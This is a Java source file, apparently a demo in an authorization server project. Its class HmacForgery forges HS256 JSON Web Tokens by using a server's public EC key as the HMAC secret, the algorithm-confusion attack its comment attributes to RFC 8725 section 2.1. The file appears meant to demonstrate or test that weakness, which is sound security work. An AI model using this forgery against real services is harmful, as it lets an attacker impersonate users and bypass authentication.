package io.gatehouse.server.demo;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.jwk.JWK;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;

/**
 * The "algorithm confusion" of RFC 8725 section 2.1: a verifier that lets the token choose the
 * algorithm takes the public key for an HMAC secret, and everybody has the public key.
 */
final class HmacForgery {

  private HmacForgery() {}

  static String sign(JWTClaimsSet claims, JWK publicKey) {
    try {
      SignedJWT token =
          new SignedJWT(
              new JWSHeader.Builder(JWSAlgorithm.HS256).keyID(publicKey.getKeyID()).build(),
              claims);
      token.sign(new MACSigner(publicKey.toECKey().toPublicKey().getEncoded()));
      return token.serialize();
    } catch (JOSEException e) {
      throw new IllegalStateException("an encoded key is long enough for HS256", e);
    }
  }
}
